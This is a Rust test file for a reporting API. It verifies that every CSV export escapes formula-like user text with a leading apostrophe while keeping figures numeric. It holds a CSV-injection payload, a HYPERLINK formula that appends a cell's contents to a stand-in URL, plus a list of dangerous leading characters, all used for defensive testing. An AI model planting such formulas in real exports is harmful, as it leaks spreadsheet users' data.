//! No CSV the API writes can run in a spreadsheet: a name a user typed that
//! starts like a formula is written as text (OWASP: a `'` in front), in
//! every CSV (totals, breakdown, completeness, its summary, figures), while
//! figures stay numbers, negative ones too.

use diesel::prelude::*;
use reqwest::StatusCode;
use tonghop_tests::api::{CompletenessOf, TotalsOf, ValuesOf};
use tonghop_tests::scenario::FormFigures;
use tonghop_tests::{Db, on_both_databases, spawn_app};

const FORMULA: &str = r#"=HYPERLINK("http://x"&A2,"Thôn Ba Ngọc")"#;
const INDICATOR: &str = "+Sản lượng lương thực";
const MEASURE: &str = "@tấn";

/// A file's path in a decimal mark (`dot`, `comma`).
type PathIn<'a> = Box<dyn Fn(&str) -> String + 'a>;

/// The fields of a CSV, BOM and header included.
fn fields(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a byte order mark")).expect("UTF-8");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).delimiter(delimiter).from_reader(text.as_bytes());
    reader.records().map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect()).collect()
}

async fn every_csv_writes_formula_like_text_as_text_and_figures_as_numbers(db: Db) {
    let app = spawn_app(db).await;
    let (xp, bangoc) = (app.unit("XP").await.id, app.unit("XP-BANGOC").await.id);
    {
        // Written as a user could have named them (the API takes these names).
        use tonghop::db::schema::{indicators, units};
        let mut conn = app.pool.get().unwrap();
        diesel::update(units::table.filter(units::code.eq("XP-BANGOC"))).set(units::name.eq(FORMULA)).execute(&mut conn).unwrap();
        diesel::update(indicators::table.filter(indicators::code.eq("GRAIN_OUTPUT")))
            .set((indicators::name.eq(INDICATOR), indicators::unit_of_measure.eq(MEASURE)))
            .execute(&mut conn)
            .unwrap();
    }
    let commune = app.session("vp.xuanphu").await;
    let form = app.form_named("VILLAGE_MONTHLY").await;
    let grain = form.indicator_id("GRAIN_OUTPUT");
    let half = CompletenessOf::under(form.id, xp).months("2026-01", "2026-06");
    let files: [(&str, PathIn, bool, bool); 5] = [
        // (what, path in a decimal mark, names indicators, has figures)
        ("totals", Box::new(|d| TotalsOf::approved(bangoc, "2025").file_path("csv", Some(d))), true, true),
        ("breakdown", Box::new(|d| TotalsOf::approved(xp, "2025").breakdown_file_path(Some(grain), Some("csv"), Some(d))), true, true),
        ("completeness", Box::new(|d| half.table_file_path("csv", Some(d))), false, false),
        ("its summary", Box::new(|d| half.summary_file_path("csv", Some(d))), false, true),
        ("figures", Box::new(|d| ValuesOf::all().under(bangoc).months("2025-01", "2025-12").format("csv").decimal(d).path()), true, true),
    ];

    for (what, path_in, names_indicators, has_figures) in &files {
        for (decimal, delimiter) in [("dot", b','), ("comma", b';')] {
            let path = path_in(decimal);
            let file = app.file(&path, &commune).await;
            assert_eq!(file.status, StatusCode::OK, "{what}: {path}: {}", String::from_utf8_lossy(&file.bytes));
            let bytes = file.bytes;
            let rows = fields(&bytes, delimiter);
            assert!(rows.len() > 1, "{path} has rows");
            let all: Vec<&String> = rows.iter().flatten().collect();

            assert!(all.iter().any(|f| **f == format!("'{FORMULA}")), "{path}: the unit's name as text");
            if *names_indicators {
                assert!(all.iter().any(|f| **f == format!("'{INDICATOR}")), "{path}: the indicator's name as text");
                assert!(all.iter().any(|f| **f == format!("'{MEASURE}")), "{path}: the unit of measure as text");
            }
            for field in &all {
                assert!(!field.starts_with(['=', '+', '@', '\t', '\r']), "{path}: {field:?} would run as a formula");
                if field.starts_with('-') {
                    assert!(field.replace(',', ".").parse::<f64>().is_ok(), "{path}: {field:?} is a negative number or nothing");
                }
            }
            let numbers = rows.iter().skip(1).flatten().filter(|f| f.replace(',', ".").parse::<f64>().is_ok()).count();
            assert!(!*has_figures || numbers > 0, "{path}: figures stay bare numbers");
        }
    }
}

on_both_databases!(every_csv_writes_formula_like_text_as_text_and_figures_as_numbers);
